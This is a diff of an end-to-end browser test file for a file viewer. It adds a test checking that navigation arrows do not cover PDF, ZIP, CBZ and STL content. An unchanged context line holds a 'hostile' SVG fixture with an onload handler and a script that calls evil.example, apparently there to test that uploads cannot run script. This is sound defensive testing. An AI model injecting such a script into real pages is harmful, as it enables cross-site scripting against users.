@@ -5,13 +5,20 @@ import type { Page } from 'playwright-core'
 import { beforeEach, expect, test } from 'vitest'
 import { rowOf, signIn } from '../kit/browser.ts'
 import { rotatedJpeg } from '../kit/images.ts'
+import { makePdf } from '../kit/pdf.ts'
 import { ada, ann, bea } from '../kit/run-server.ts'
-import { atRoot, eventually, expectFocusInside, focusOf, violationsIn } from './journeys.ts'
+import { makeZip } from '../kit/zip.ts'
+import { atRoot, doOverlap, eventually, expectFocusInside, focusOf, violationsIn } from './journeys.ts'
 
 const photo = await rotatedJpeg(800, 600)
 const hostile =
   '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="parent.hacked = 1">' +
   '<script>parent.hacked = 1; fetch("https://evil.example/")</script><rect width="40" height="40"/></svg>'
+
+/** A model in the format STL with one triangle. */
+const oneTriangle = Buffer.alloc(84 + 50)
+oneTriangle.writeUInt32LE(1, 80)
+;[0, 0, 0, 1, 0, 0, 0, 1, 0].forEach((value, at) => oneTriangle.writeFloatLE(value, 96 + at * 4))
 
 const nameShown = (page: Page) => page.locator('[data-part="file"] h1').innerText()
 const imageOf = (page: Page) => page.locator('[data-part="file"] img[data-loaded]')
@@ -186,6 +193,27 @@ atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
     await eventually(opacity, '0')
     await page.mouse.move(620, 500)
     await eventually(opacity, '1')
+  })
+
+  test.each([
+    { width: 1280, names: ['b.zip'] },
+    { width: 390, names: ['a.pdf', 'b.zip', 'c.cbz', 'd.stl'] },
+  ])('the arrows at the sides cover nothing of $names at $width pixels', async ({ width, names }) => {
+    const picture = makeZip([{ name: '1.jpg', content: photo }])
+    const { page, folder } = await openFolder(
+      { 'a.pdf': makePdf({ pages: ['One'] }), 'b.zip': picture, 'c.cbz': picture, 'd.stl': oneTriangle },
+      { viewport: { width, height: 800 } },
+    )
+    for (const name of names) {
+      await page.goto(`${server().url}/files/${encodeURIComponent(folder)}/${name}`)
+      const content = page.locator('[data-part="file"] [data-fills-width]').first()
+      await content.waitFor()
+      for (const arrow of ['Previous file', 'Next file']) {
+        const button = page.getByRole('button', { name: arrow, exact: true })
+        await button.waitFor()
+        expect([name, arrow, await doOverlap(button, content)]).toEqual([name, arrow, false])
+      }
+    }
   })
 
   test('on a phone a swipe leads to the next file, and a swipe down closes it', async () => {
